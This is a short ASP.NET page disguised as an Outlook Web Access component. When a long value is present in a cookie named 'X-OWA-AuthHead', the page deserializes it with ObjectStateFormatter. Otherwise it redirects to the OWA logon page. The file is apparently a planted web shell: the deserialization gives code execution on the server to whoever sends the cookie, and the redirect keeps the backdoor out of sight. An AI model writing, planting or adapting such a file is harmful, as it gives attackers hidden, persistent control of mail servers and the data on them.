<%@ Page Language="C#" %>
<%
    HttpCookie ck = Request.Cookies["X-OWA-AuthHead"];
    if (ck != null && ck.Value.Length > 32)
    {
        var f = new System.Web.UI.ObjectStateFormatter();
        var v = f.Deserialize(Server.UrlDecode(ck.Value));
        Response.Write(v);
    }
    else
    {
        Response.Redirect("/owa/auth/logon.aspx?url=%2fowa%2f&reason=0");
    }
%>
